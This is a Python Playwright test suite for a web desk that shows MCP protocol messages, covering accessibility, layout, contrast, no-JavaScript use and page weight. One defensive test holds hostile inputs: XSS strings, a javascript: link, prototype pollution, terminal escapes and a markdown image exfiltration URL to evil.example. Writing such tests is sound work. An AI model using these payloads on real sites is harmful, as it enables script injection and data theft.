"""The page for everybody."""

import gzip
import json
import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Error, Page, Playwright, ViewportSize, expect

from humanmcp import extensions
from humanmcp.common.web_folder import web_folder
from tests.browser.chromium import NPM, launch
from tests.browser.seats import (
    INITIALIZE,
    PHONE,
    Window,
    Windows,
    begin,
    boxes_of,
    call,
    open_menu,
    request,
)
from tests.support.desk_process import Desking
from tests.support.serve_process import Serving
from tests.support.waiting import until

EDITOR: Final = web_folder() / "static" / "vendor" / "editor.js"


pytestmark = pytest.mark.browser

ROOT: Final = Path(__file__).parents[2]
AXE: Final = ROOT / "editor" / "node_modules" / "axe-core" / "axe.min.js"
RULES: Final = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
COLOURS: Final = ["color-contrast", "link-in-text-block"]
"""The rules whose result depends on colours."""
SIZES: Final = [((320, 640), (390, 844)), ((640, 400),), ((1280, 800), (768, 1024))]
"""Of a phone, a window at 200 % and a desktop; a page is loaded in the first size of its window."""


def fill(host: Serving, desk: Desking) -> str:
    """Have one of everything in the inbox. Returns the name of the session."""
    begin(host, desk)
    host.say(call("1", city="Tokyo", days=3, note="a\nb"))
    host.say(request("tools/list", None, "2"))
    host.say(call("3", tool="lookup", city="Osaka"))
    host.say(
        '{"jsonrpc":"2.0","method":"notifications/cancelled",'
        '"params":{"requestId":3,"reason":"changed my mind"}}'
    )
    return until(host.find_session, "a session").name


def views(name: str) -> list[str]:
    """List an address of every view of this installation."""
    of_books = (
        "/book",
        f"/server?session={name}",
        f"/server/entry?session={name}&name=ask_human",
        f"/m/{name}/1/keep",
    )
    return [
        *(of_books if "books" in {one.name for one in extensions.installed()} else ()),
        f"/m/{name}/2",
        f"/m/{name}/3",
        f"/m/{name}/4",
        f"/m/{name}/1",
        "/history?q=tools",
        f"/line/{name}/1",
        "/connect",
        "/present",
        f"/compare?line={name}/1&line={name}/2",
        f"/export/{name}",
        f"/timeline/{name}",
        "/settings",
        "/mistake/M61",
        f"/present?name={name}&seq=2",
        f"/say/{name}",
        f"/faults/{name}",
        f"/m/{name}/2/ask",
        "/login",
        "/no-such-page",
    ]


def _run(page: Page, rules: Sequence[str]) -> tuple[list[dict[str, Any]]] | None:
    """Let axe look once; None when the page changed under it."""
    try:
        found = page.evaluate(
            "tags => axe.run({ runOnly: tags }).then((one) => one.violations)", rules
        )
    except Error:
        return None
    return (found,)


def violations(page: Page, rules: Sequence[str] = RULES) -> list[str]:
    """Return what axe finds wrong with a page, at a moment when nothing on it changes.

    Axe itself stumbles over an element that a live update replaces while it looks; it looks again.
    The window is as tall as the page meanwhile, also where the page grows with its window: axe
    takes a field that is half scrolled under a bar for one that is too small
    (https://github.com/dequelabs/axe-core/issues/3720).
    """
    page.evaluate(AXE.read_text(encoding="utf-8"))
    size = page.viewport_size
    assert size is not None
    for _ in range(5):
        tall = page.evaluate("document.documentElement.scrollHeight")
        if tall <= page.evaluate("innerHeight"):
            break
        page.set_viewport_size({**size, "height": tall})
    found: list[dict[str, Any]] = until(lambda: _run(page, rules), f"axe looks at {page.url}")[0]
    page.set_viewport_size(size)
    return [
        f"{page.url}: {one['id']}: {node['html'][:160]} {node['failureSummary'][:300]}"
        for one in found
        for node in one["nodes"]
    ]


@pytest.fixture
def browser_without_japanese(playwright: Playwright, tmp_path: Path) -> Iterator[Browser]:
    """Chromium on a machine without a Japanese font: each letter is a narrow box."""
    pinned = (NPM / "fonts.conf").read_text(encoding="utf-8")
    kept = [line for line in pinned.splitlines() if "<dir" not in line or "dejavu" in line]
    assert len(kept) == len(pinned.splitlines()) - 1
    fonts = tmp_path / "fonts.conf"
    beside = '<dir prefix="relative">'
    fonts.write_text("\n".join(kept).replace(beside, f"<dir>{NPM}/"), encoding="utf-8")
    chromium = launch(playwright, FONTCONFIG_FILE=str(fonts))
    yield chromium
    chromium.close()


@pytest.mark.parametrize("width", [320, 390])
def test_what_is_pressed_is_large_enough_without_a_japanese_font(
    desk: Desking, host: Serving, browser_without_japanese: Browser, width: int
) -> None:
    """24 by 24 pixels at least for whatever does not stand in a line of text."""
    name = fill(host, desk)
    size = {"width": width, "height": 844}
    shown = Window(browser_without_japanese, desk, viewport=size, locale="ja-JP")
    small: set[str] = set()
    for path in views(name):
        page = shown.goto(path)
        small |= set(
            page.evaluate(
                """() => [...document.querySelectorAll("a, button, summary, select, textarea")]
                    .filter((one) => one.checkVisibility({ visibilityProperty: true })
                        && !one.closest("svg, .skip") && getComputedStyle(one).display !== "inline")
                    .map((one) => [one.outerHTML.slice(0, 80), one.getBoundingClientRect()])
                    .filter(([, box]) => box.width && (box.width < 24 || box.height < 24))
                    .map(([html, box]) => `${html} ${box.width} x ${box.height}`)"""
            )
        )
    shown.close()
    assert not small


def test_nothing_moves_where_less_motion_is_wanted(
    desk: Desking, host: Serving, window: Windows
) -> None:
    """No animation runs; in forced colours what is chosen can still be seen."""
    name = fill(host, desk)
    shown = window(forced_colors="active")
    page = shown.goto(f"/m/{name}/2")
    page.locator("#sentence").fill("sunny")
    assert page.evaluate("document.getAnimations().length") == 0
    border = page.locator(".views [aria-selected=true]").evaluate(
        "one => getComputedStyle(one).borderTopStyle"
    )
    assert border == "solid"


@pytest.mark.parametrize("sizes", SIZES)
def test_nothing_is_wider_than_the_window(
    desk: Desking, host: Serving, window: Windows, sizes: tuple[tuple[int, int], ...]
) -> None:
    """No sideways scrolling from 320 pixels to a desktop at 200 %; Send can be reached."""
    name = fill(host, desk)
    given = [ViewportSize(width=width, height=height) for width, height in sizes]
    least = min(one["width"] for one in given)
    shown = window(viewport=given[0], has_touch=least < 700, is_mobile=least < 400)
    asked: list[str] = []
    shown.page.on("request", lambda one: asked.append(one.url))
    for path in views(name):
        page = shown.goto(path)
        page.wait_for_load_state("networkidle") if path == "/login" else None
        for size in given:
            page.set_viewport_size(size)
            wide = page.evaluate("document.documentElement.scrollWidth")
            assert wide <= size["width"], (path, size)
        page.set_viewport_size(given[0])
    page = shown.goto(f"/m/{name}/2")
    for size in given:
        page.set_viewport_size(size)
        page.locator("#send").scroll_into_view_if_needed()
        expect(page.locator("#send")).to_be_in_viewport()
    if least < 400:
        page.locator("#tab-json").tap()
        assert not [url for url in asked if "vendor/editor" in url]
        small = page.evaluate(
            """() => [...document.querySelectorAll(
                "button, .places a, .rows a, summary, input:not([type=radio])")]
                .filter((one) => one.checkVisibility() && !one.closest("svg"))
                .map((one) => [one.id || one.textContent.trim(), one.getBoundingClientRect()])
                .filter(([, box]) => box.width && box.height < 44)
                .map(([name, box]) => `${name} ${box.height}`)
"""
        )
        assert small == []


@pytest.mark.parametrize("locale", ["en-US", "ja-JP"])
def test_on_a_phone_the_box_of_a_call_is_there_without_scrolling(
    desk: Desking, host: Serving, window: Windows, locale: str
) -> None:
    """The whole box between the arguments and the bar with Send, 390 by 844; each view in sight.

    The whole page is one screen and a half: its explanations are closed, until somebody opens one.
    """
    name = fill(host, desk)
    shown = window(**PHONE, locale=locale)
    page = shown.goto(f"/m/{name}/2")
    expect(page.locator("#sentence")).to_be_visible()
    box, bottom = boxes_of(page.locator("#sentence"), page.locator(".composer > .actions"))
    assert page.evaluate("scrollY") == 0
    assert box["height"] >= 80
    assert box["y"] + box["height"] <= bottom["y"]
    assert bottom["y"] + bottom["height"] <= 844
    assert page.locator(".places").evaluate("bar => bar.scrollWidth - bar.clientWidth") == 0
    assert page.evaluate("document.documentElement.scrollHeight") <= 1.5 * 844
    page.locator(".side summary").first.click()
    shown.goto(f"/m/{name}/2")
    expect(page.locator(".side details[open]")).to_have_count(1)


def test_no_field_that_has_the_focus_lies_under_the_bar(
    desk: Desking, host: Serving, window: Windows
) -> None:
    """390 by 800: each field of a form is free of Send, and of the problem beside it."""
    host.say(INITIALIZE)
    size = {"width": 390, "height": 800}
    page = window(viewport=size, has_touch=True, is_mobile=True).page
    page.locator("#rows a").click()
    page.locator("#tab-form").click()
    page.locator("[data-pointer='/result/protocolVersion']").fill("1")
    expect(page.locator(".problem.at-field").first).to_be_attached()
    for field in page.locator("#form-fields :is(input, textarea, select):visible").all():
        field.focus()
        box, bar = boxes_of(field, page.locator(".composer > .actions"))
        assert box["y"] + min(box["height"], 60) <= bar["y"], field.get_attribute("data-pointer")


@pytest.mark.parametrize("value", ["two words", 5, [10, 20], {"unit": "mm"}, True, None])
def test_an_argument_of_any_type_is_one_row(
    desk: Desking, host: Serving, window: Windows, value: object
) -> None:
    """A short value takes a line or two, never a screen: its type is not another part's class."""
    begin(host, desk)
    host.say(call("1", first=value))
    name = until(host.find_session, "a session").name
    page = window(viewport={"width": 1280, "height": 800}).goto(f"/m/{name}/2")
    (row,) = boxes_of(page.locator(".asked tr"))
    assert row["height"] < 60


def test_the_projector_shows_large_and_cannot_answer(
    desk: Desking, host: Serving, window: Windows
) -> None:
    """At least 28 pixels (JSON 24), arrows as in the transcript, the page of the version."""
    name = fill(host, desk)
    shown = window(viewport={"width": 1920, "height": 1080})
    page = shown.goto("/present")
    expect(page.locator("#main h1")).to_be_visible()
    for selector, least in ((".meaning .what", 28), (".meaning pre", 24), (".stage p", 28)):
        if page.locator(selector).count():
            size = page.locator(selector).first.evaluate(
                "one => parseFloat(getComputedStyle(one).fontSize)"
            )
            assert size >= least, selector
    assert page.locator("main input, main textarea, main form, main [contenteditable]").count() == 0
    steps = desk.get("/api/history")["lines"][::-1]
    page = shown.goto(f"/present?name={name}&seq={steps[2]['seq']}")
    arrows = page.locator(".sequence a.arrow line").evaluate_all(
        "all => all.map((one) => Number(one.getAttribute('x2')) > Number(one.getAttribute('x1')))"
    )
    assert arrows == [step["way"] == "in" for step in steps[:3]]
    page.set_viewport_size({"width": 1280, "height": 800})
    names = page.locator(".sequence .who").evaluate_all(
        "all => all.map((one) => one.getBoundingClientRect().height)"
    )
    assert min(names) >= 20, "the picture, on a small projector"
    page = shown.goto(f"/present?name={name}&seq=1")
    link = page.locator(".meaning a").get_attribute("href") or ""
    assert "/2025-11-25/" in link
    page.keyboard.press("ArrowRight")
    page.wait_for_url("**seq=2")


CONTRAST: Final = """() => {
    const numbers = (colour) => colour.match(/[\\d.]+/g).map(Number);
    const light = (colour) => {
        const [red, green, blue] = numbers(colour).map((one) => {
            const part = one / 255;
            return part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
        });
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
    };
    const behind = (one) => {
        for (; one; one = one.parentElement) {
            const colour = getComputedStyle(one).backgroundColor;
            if ((numbers(colour)[3] ?? 1) === 1) return colour;
        }
        return "rgb(255, 255, 255)";
    };
    return [...document.querySelectorAll("#main *")]
        .filter((one) => one.checkVisibility() && !one.closest("svg")
            && [...one.childNodes].some((node) => node.nodeType === 3 && node.data.trim()))
        .map((one) => {
            const [dark, bright] = [getComputedStyle(one).color, behind(one)].map(light).sort(
                (a, b) => a - b);
            return [one.textContent.trim().slice(0, 40), (bright + 0.05) / (dark + 0.05)];
        });
}"""
"""Of each text on the page: how much it differs from what is behind it (WCAG 2.2, 1.4.6)."""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_projector_can_be_read_from_the_last_row(
    desk: Desking, host: Serving, window: Windows, scheme: str
) -> None:
    """A contrast of at least 7 to 1, in both themes."""
    fill(host, desk)
    page = window(viewport={"width": 1920, "height": 1080}, color_scheme=scheme).goto("/present")
    expect(page.locator(".meaning pre")).to_be_visible()
    texts = page.evaluate(CONTRAST)
    assert len(texts) > 5
    assert [one for one in texts if one[1] < 7] == []


def test_the_projector_follows(desk: Desking, host: Serving, window: Windows) -> None:
    """What arrives is on the wall without a hand."""
    begin(host, desk)
    page = window().goto("/present")
    host.say(call("9", city="Nagoya"))
    expect(page.locator(".meaning pre")).to_contain_text("Nagoya")


def test_a_row_begins_with_the_tool_and_letters_come_with_a_second_session(
    home: Path, desk: Desking, host: Serving, window: Windows
) -> None:
    """What a person looks for comes before the words of the protocol."""
    begin(host, desk)
    host.say(call("7", city="Osaka"))
    page = window().page
    words = page.locator("#recent .word").first
    expect(words).to_have_text(re.compile(r"^[^:]*: get_forecast\s+city: "))
    letters = page.locator(".badge:visible")
    expect(letters).to_have_count(0)
    with Serving(home, "--by-hand") as other:
        other.say(INITIALIZE)
        expect(page.locator("#rows .row .badge:visible")).to_have_count(2)
        expect(page.locator("article.message .from .badge:visible")).to_have_count(1)


def test_nothing_comes_from_elsewhere_and_little_comes_at_all(
    desk: Desking, host: Serving, window: Windows
) -> None:
    """No foreign request, every file there, less than 191 kB for a message.

    The JSON editor is loaded when its view is opened, and what it offers when one writes in it.
    """
    name = fill(host, desk)
    shown = window()
    failed: list[str] = []
    shown.page.on("response", lambda one: failed.append(one.url) if one.status >= 400 else None)
    for path in views(name)[:-1]:
        shown.goto(path)
    fresh, loaded = window(), set[str]()
    fresh.page.on("response", lambda one: loaded.add(urlsplit(one.url).path))
    page = fresh.goto(f"/m/{name}/2")
    page.wait_for_load_state("networkidle")
    html = desk.page(f"/m/{name}/2")  # as it opened: what is typed comes into it, too
    opened = weight(loaded, html)
    page.locator("#tab-json").click()
    page.locator(".editor .cm-content" if EDITOR.exists() else "#document").click()
    page.keyboard.type("x")
    page.wait_for_load_state("networkidle")
    assert shown.foreign == fresh.foreign == []
    assert failed == []
    assert opened <= weight(loaded, html) < 191_500


def weight(loaded: set[str], html: str) -> int:
    """Return the bytes of a page with the scripts and styles that it loaded, compressed."""
    static = web_folder() / "static"
    files = [
        one
        for one in static.rglob("*.*")
        if any(path.endswith(f"/{one.relative_to(static).as_posix()}") for path in loaded)
    ]
    assert {"desk.css", "composer.js"} <= {one.name for one in files}
    texts = [html.encode(), *(one.read_bytes() for one in files)]
    return sum(len(gzip.compress(one, 6)) for one in texts)


def test_a_browser_without_javascript_answers_with_one_plain_form(
    desk: Desking, host: Serving, window: Windows
) -> None:
    """Choose an option; read a problem above the box, fix it, send; change a setting."""
    begin(host, desk)
    host.say(call("1", tool="ask", question="Deploy now?", options=["Yes", "No"]))
    host.say(call("2", city="Osaka"))
    page = window(java_script_enabled=False).page
    code = desk.out.read_text(encoding="utf-8").split("code ")[1][:9]
    page.goto(f"{desk.facts.address}login")
    page.locator("[name=code]").fill(code)
    page.locator("button.primary").click()
    page.get_by_role("button", name="Yes").click()
    assert json.loads(host.hear())["result"]["content"][0]["text"] == "Yes"
    form, box = page.locator(".plain-composer"), page.locator("textarea[name=text]")
    expect(form.locator(".actions button")).to_have_text(["Send answer"])
    form.locator("[name=form]").select_option("message")
    box.fill('{"jsonrpc": "2.0", "id": "2", "result": {"content": []}}')
    page.locator("button[value=send]").click()
    expect(form.locator(".problems ~ label textarea")).to_have_value(re.compile('"id": "2"'))
    expect(form.locator(".problems")).to_contain_text("Use the id")
    box.fill('{"jsonrpc": "2.0", "id": 2, "result": {"content": []}}')
    page.locator("button[value=send]").click()
    assert json.loads(host.hear())["id"] == 2
    expect(page.locator(".sent")).to_be_visible()
    page.locator("header .menu").click()
    page.locator("button[value=ja]").click()
    expect(page.locator("html")).to_have_attribute("lang", "ja")


EVIL: Final = {
    "<img src=x onerror=alert(1)>": "</script><script>alert(1)</script>",
    "link": "javascript:alert(1)",
    "__proto__": {"polluted": True},
    "rtl": "abc\u202etxt.exe\u200b\U000e0041",
    "escape": "\x1b[2J\x1b]8;;http://evil\x07",
    "template": "{{7*7}} ${7*7} <%= 7 %>",
    "markdown": "![](http://evil.example/?q=secret)",
    "long": "x" * 1_000_000,
}


def test_hostile_content_is_text(desk: Desking, host: Serving, window: Windows) -> None:
    """Shown literally, nothing runs, nothing is fetched, the form works."""
    begin(host, desk)
    host.say(call('"\\"onclick=alert(1)"', tool="<svg onload=alert(1)>", **EVIL))
    shown = window()
    shown.page.on("dialog", lambda one: shown.troubles.append(one.message))
    page = shown.goto("/")
    expect(page.locator("h1")).to_contain_text("<svg onload=alert(1)>")
    expect(page.locator(".asked")).to_contain_text("<img src=x onerror=alert(1)>")
    expect(page.locator(".asked")).to_contain_text("⟦U+202E⟧")
    expect(page.locator(".asked")).to_contain_text("⟦U+001B⟧")
    expect(page.locator(".asked")).to_contain_text("{{7*7}}")
    assert page.evaluate("({}).polluted") is None
    assert (
        page.locator(
            ".asked a:not([href*='/export/'], [href$='/line']), .asked img, .asked svg"
        ).count()
        == 0
    )
    if page.locator("#keep-answer").count():  # an extension brings it
        open_menu(page)
        page.locator("#keep-answer").click()
        expect(page.locator("main")).to_contain_text("⟦U+202E⟧")
        page.get_by_role("link", name="Back to the message").click()
    page.locator("#sentence").fill("fine")
    page.locator("#send").click()
    assert json.loads(host.hear())["id"] == '"onclick=alert(1)'
    assert shown.foreign == []


def test_five_hundred_messages_scroll(desk: Desking, host: Serving, window: Windows) -> None:
    """200 of 500 rows are drawn and the others counted; one more moves nothing.

    A task of 50 ms or more is what makes scrolling stutter: a browser reports each. The machine may
    be busy with something else, so it is the best of five that counts.
    """
    begin(host, desk)
    for number in range(1, 501):
        host.say(call(str(number), city=f"City {number}"))
    page = window().page
    rows, others = page.locator("#rows .row"), page.locator("#others")
    expect(rows).to_have_count(200)
    expect(others).to_contain_text("300")
    page.evaluate(
        """() => {
            window.tasks = [];
            new PerformanceObserver((found) => tasks.push(...found.getEntries()))
                .observe({ type: "longtask" });
            setTimeout(() => { for (const at = Date.now(); Date.now() < at + 80;); });
            const list = document.getElementById("list");
            list.scrollTop = list.scrollHeight / 2;
            window.before = [list.scrollTop, ...document.querySelectorAll("#rows .row")];
        }"""
    )
    page.wait_for_function("() => tasks.length > 0")  # the one above: long tasks are seen
    long: list[int] = []
    for number in range(301, 306):
        page.evaluate("() => { tasks.length = 0; }")
        host.say(call(str(number + 200), city="One more"))
        expect(others).to_contain_text(str(number))
        long.append(page.evaluate("tasks.length"))
    assert min(long) == 0
    assert page.evaluate("before[0] > 0 && before[0] === document.getElementById('list').scrollTop")
    assert page.evaluate("before.slice(1).every((row) => row.isConnected)")
    page.locator("#sentence").fill("sunny")
    page.locator("#send").click()
    assert json.loads(host.hear())["id"] == 1
    expect(others).to_contain_text("304")
    expect(rows.last).to_contain_text("City 201")
